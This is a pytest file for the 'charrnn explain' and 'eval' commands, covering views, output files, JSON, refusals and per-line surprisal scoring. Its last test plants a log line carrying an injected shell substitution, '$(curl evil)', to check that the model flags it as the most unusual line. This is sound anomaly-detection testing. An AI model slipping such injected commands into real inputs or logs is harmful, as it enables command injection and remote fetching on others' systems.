"""`charrnn explain` as a shell sees it: the list, every view, files, JSON, refusals."""

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from charrnn.cli.app import run
from charrnn.explain.views import VIEWS
from tests.explain.runs import TEXT, lines_run, stream_run

ROOT = Path(__file__).parents[2]


@pytest.fixture(autouse=True)
def in_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def stream(tmp_path: Path) -> None:
    stream_run(tmp_path)


@pytest.fixture
def lines(tmp_path: Path) -> None:
    lines_run(tmp_path)


def refused(capsys: pytest.CaptureFixture[str], *arguments: str, code: int = 2) -> str:
    assert run(list(arguments)) == code
    said = capsys.readouterr()
    assert said.out == "" or "--json" in arguments
    assert said.err.startswith("error: ")
    assert "Traceback" not in said.err
    return said.err


def printed(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    assert run(list(arguments)) == 0
    return capsys.readouterr().out


def in_process(*arguments: str, stdin: str = "", **variables: str) -> str:
    """What a command prints into a pipe, in a process of its own."""
    done = subprocess.run(
        [sys.executable, "-m", "charrnn", *arguments],
        env={**os.environ, "PYTHONPATH": str(ROOT), **variables},
        input=stdin,
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    return done.stdout


def test_without_a_view_all_are_listed(capsys: pytest.CaptureFixture[str]) -> None:
    said = printed(capsys, "explain")
    listed = [line.split()[0] for line in said.splitlines() if re.match("  [a-z]", line)]
    assert listed == [*VIEWS, "report"]


@pytest.mark.usefixtures("stream")
def test_every_view_prints_a_picture_and_its_numbers(capsys: pytest.CaptureFixture[str]) -> None:
    for view in VIEWS:
        text = ["The e"] if view == "step" else []
        said = printed(capsys, "explain", view, *text)
        assert "\x1b" not in said
        assert len(said.splitlines()) > 5
        assert isinstance(json.loads(printed(capsys, "explain", view, *text, "--json")), dict)


@pytest.mark.usefixtures("stream")
def test_a_report_has_every_view(capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("matplotlib")
    assert run(["explain", "report", "-o", "report.html"]) == 0
    assert capsys.readouterr().err == "wrote report.html\n"
    page = Path("report.html").read_text(encoding="utf-8")
    for view in VIEWS:
        assert f'<section id="{view}">' in page


def test_a_report_of_a_plain_rnn_leaves_the_gates_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stream_run(tmp_path, cell="rnn")
    assert set(json.loads(printed(capsys, "explain", "report", "--json"))) == {*VIEWS} - {"gates"}
    assert "no gates" in refused(capsys, "explain", "gates")


@pytest.mark.usefixtures("stream")
def test_a_text_may_come_from_a_file_or_a_pipe_and_keeps_its_own_characters() -> None:
    Path("other.txt").write_text("The жук said.\n", encoding="utf-8")
    for name, stdin in (("other.txt", ""), ("-", "The жук said.\n")):
        said = in_process("explain", "surprisal", name, "--json", stdin=stdin)
        assert "".join(json.loads(said)["characters"]) == "The жук said.\n"


@pytest.mark.usefixtures("stream")
def test_several_runs_stand_in_one_gradient(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines_run(tmp_path, cell="gru")
    both = ["--run", "runs/sea", "--run", "runs/lines"]
    runs = json.loads(printed(capsys, "explain", "gradient", *both, "--json"))["runs"]
    assert [(each["run"], each["cell"]) for each in runs] == [("sea", "lstm"), ("lines", "gru")]
    assert "one --run" in refused(capsys, "explain", "gates", *both)


@pytest.mark.usefixtures("stream")
def test_the_run_may_be_named_by_the_environment(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    Path("runs/sea").rename("a folder")
    monkeypatch.setenv("CHARRNN_RUN", "a folder")
    assert json.loads(printed(capsys, "explain", "embedding", "--json"))["run"] == "a folder"


@pytest.mark.usefixtures("stream")
@pytest.mark.parametrize("name", ["a.html", "a.svg", "a.png", "a.PNG"])
def test_a_picture_is_written_in_the_form_that_its_name_says(name: str) -> None:
    pytest.importorskip("matplotlib")
    begins = {"html": b"<!doctype html>", "svg": b"<?xml", "png": b"\x89PNG"}
    for view in ("surprisal", "context"):
        assert run(["explain", view, "-o", name, "--quiet", "--force"]) == 0
        assert Path(name).read_bytes().startswith(begins[name[2:].lower()])


@pytest.mark.usefixtures("stream")
def test_what_does_not_fit_is_refused_before_any_work(capsys: pytest.CaptureFixture[str]) -> None:
    for arguments, said in (
        (["surprisl"], "did you mean surprisal?"),
        (["surprisal", "-o", "a.pdf"], ".html, .svg or .png"),
        (["surprisal", "-o", "nowhere/a.html"], "no folder"),
        (["step", "The", "-o", "a.svg"], "-o NAME.html"),
        (["report", "-o", "a.png"], "-o NAME.html"),
        (["surprisal", "-o", "-", "--json"], "stdout"),
        (["embedding", "text.txt"], "takes no text"),
        (["gates", "--unit", "3"], "--unit"),
        (["units", "--unit", "x"], "number or auto"),
        (["units", "--unit", "999"], "0 to 15"),
        (["gates", "--by-line"], "--by-line"),
        (["surprisal", "--by-line", "-o", "a.html"], "--by-line"),
        (["surprisal", "--show", "0"], "--show"),
        (["surprisal", "missing.txt"], "missing.txt"),
        (["step"], "no text"),
    ):
        assert said in refused(capsys, "explain", *arguments)
    assert not list(Path().glob("a.*"))


@pytest.mark.usefixtures("stream")
def test_a_text_without_anything_to_predict_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    for text in ("", "x"):
        Path("short.txt").write_text(text)
        for view in ("surprisal", "gradient", "units", "baselines"):
            assert "too short" in refused(capsys, "explain", view, "short.txt")


@pytest.mark.parametrize("make_run", [stream_run, lines_run])
def test_of_two_characters_only_what_can_be_said_of_them_is_shown(
    make_run: Callable[[Path], object], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_run(tmp_path)
    Path("short.txt").write_text("ab")
    for view in ("surprisal", "units", "gates", "baselines"):
        assert "gzip" not in printed(capsys, "explain", view, "short.txt")
    for view in ("gradient", "context", "calibration"):
        assert "100 is the least" in refused(capsys, "explain", view, "short.txt")
    assert run(["explain", "report", "short.txt", "--json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out).keys() == {*VIEWS} - {"gradient", "context", "calibration"}
    assert "calibration, context and gradient" in err


@pytest.mark.usefixtures("lines")
def test_lines_of_one_character_are_too_short_for_a_gradient_through_time(
    capsys: pytest.CaptureFixture[str],
) -> None:
    Path("short.txt").write_text("a\n" * 60)
    assert "the lines are too short" in printed(capsys, "explain", "gradient", "short.txt")


@pytest.mark.usefixtures("stream")
def test_a_picture_that_is_there_is_replaced_only_when_asked(
    capsys: pytest.CaptureFixture[str],
) -> None:
    Path("a.html").write_text("mine")
    assert "--overwrite" in refused(capsys, "explain", "surprisal", "-o", "a.html")
    assert Path("a.html").read_text() == "mine"
    assert run(["explain", "surprisal", "-o", "a.html", "-f"]) == 0
    assert Path("a.html").read_text().startswith("<!doctype html>")


@pytest.mark.usefixtures("stream")
def test_a_split_is_looked_up_where_prepared_texts_are_said_to_be(
    capsys: pytest.CaptureFixture[str],
) -> None:
    Path("text.txt").unlink()
    (prepared,) = Path("data").rglob("vocabulary.json")
    prepared.parent.parent.rename("elsewhere")
    assert "text.txt" in refused(capsys, "explain", "baselines")
    for view in ("baselines", "surprisal", "report"):
        printed(capsys, "explain", view, "--data-dir", "elsewhere", "--json")
    assert run(["explain", "surprisal", "--by-line", "--data-dir", "elsewhere"]) == 0


@pytest.mark.usefixtures("stream")
def test_without_matplotlib_one_sentence_says_what_to_install(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    assert "charrnn-cli[plots]" in refused(capsys, "explain", "context", "-o", "a.svg")
    assert run(["explain", "surprisal", "-o", "a.html"]) == 0


@pytest.mark.usefixtures("stream")
def test_neither_torch_nor_matplotlib_is_loaded_for_a_picture_in_the_terminal() -> None:
    program = (
        "import sys; from charrnn.cli.app import run; code = run(sys.argv[1:]); "
        "print(*{name.partition('.')[0] for name in sys.modules}, file=sys.stderr); sys.exit(code)"
    )
    for view in ("surprisal", "gradient", "baselines"):
        done = subprocess.run(
            [sys.executable, "-c", program, "explain", view],
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            capture_output=True,
            text=True,
            check=True,
            timeout=120,
        )
        assert not {"torch", "matplotlib"} & set(done.stderr.split())


@pytest.mark.usefixtures("stream")
def test_a_terminal_has_colours_unless_it_asked_for_none() -> None:
    assert "\x1b[" in in_process("explain", "surprisal", FORCE_COLOR="1", COLORTERM="truecolor")
    plain = in_process("explain", "surprisal", FORCE_COLOR="1", NO_COLOR="1")
    assert "\x1b[" not in plain
    assert re.search("[▁▂▃▄▅▆▇█]", plain)


# --- By line -------------------------------------------------------------------------------------


@pytest.mark.usefixtures("lines")
@pytest.mark.parametrize("command", [["eval"], ["explain", "surprisal"]], ids=" ".join)
def test_lines_are_printed_with_what_they_cost(
    command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    Path("log.txt").write_text("The end of It.\n\nQQQQ((((\x1b[31m\nThe end of It.\n")
    rows = printed(capsys, *command, "--by-line", "log.txt").splitlines()
    assert [row.split()[2] for row in rows] == ["1", "3", "4"]
    assert rows[1].endswith("  QQQQ((((\\x1b[31m")
    objects = printed(capsys, *command, "--by-line", "--json", "log.txt").splitlines()
    found = [json.loads(each) for each in objects]
    assert [each["text"] for each in found] == [
        "The end of It.",
        "QQQQ((((\x1b[31m",
        "The end of It.",
    ]
    assert found[0]["bits_per_char"] == pytest.approx(found[0]["bits"] / found[0]["chars"])
    dearest = printed(capsys, *command, "--dearest", "2", "--json", "log.txt").splitlines()
    costs = [json.loads(each)["bits_per_char"] for each in dearest]
    assert costs == sorted((each["bits_per_char"] for each in found), reverse=True)[:2]


@pytest.mark.usefixtures("stream")
def test_the_lines_of_a_split_add_up_to_its_loss(capsys: pytest.CaptureFixture[str]) -> None:
    score = json.loads(printed(capsys, "eval", "--json"))
    objects = printed(capsys, "eval", "--by-line", "--json").splitlines()
    found = [json.loads(each) for each in objects]
    assert sum(each["chars"] for each in found) == score["chars"]
    bits = sum(each["bits"] for each in found)
    assert bits / score["chars"] == pytest.approx(score["bits_per_char"], rel=1e-6)
    assert "".join(f"{each['text']}\n" for each in found) in TEXT


@pytest.mark.usefixtures("stream")
def test_by_line_refuses_what_it_cannot_do(capsys: pytest.CaptureFixture[str]) -> None:
    assert "--window" in refused(capsys, "eval", "--by-line", "--window", "8")
    assert "--dearest" in refused(capsys, "eval", "--dearest", "0")


@pytest.mark.usefixtures("stream")
def test_the_lines_of_an_endless_text_are_scored_as_they_come() -> None:
    command = f"yes 'The end of It.' | {sys.executable} -m charrnn eval --by-line - | head -n 3"
    done = subprocess.run(
        ["bash", "-c", command],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    assert [line.split()[2] for line in done.stdout.splitlines()] == ["1", "2", "3"]


def test_a_line_that_is_out_of_the_ordinary_is_the_dearest(
    capsys: pytest.CaptureFixture[str],
) -> None:
    entries = [
        f"host{n % 7} sshd[{1000 + 37 * n}]: session opened for user{n % 5}" for n in range(99)
    ]
    Path("ok.log").write_text("".join(f"{entry}\n" for entry in entries * 3))
    small = ["model.hidden_size=32", "train.steps=60", "train.batch_size=8", "train.threads=1"]
    settings = [f"--set={each}" for each in (*small, "data.source=ok.log", "data.mode=lines")]
    assert run(["train", "--quiet", *settings]) == 0
    odd = "host3 sshd[4242]: $(curl evil)"
    Path("new.log").write_text("\n".join([*entries[:20], odd, *entries[20:40]]))
    capsys.readouterr()
    (dearest,) = printed(capsys, "eval", "--dearest", "1", "new.log").splitlines()
    assert dearest.endswith(odd)
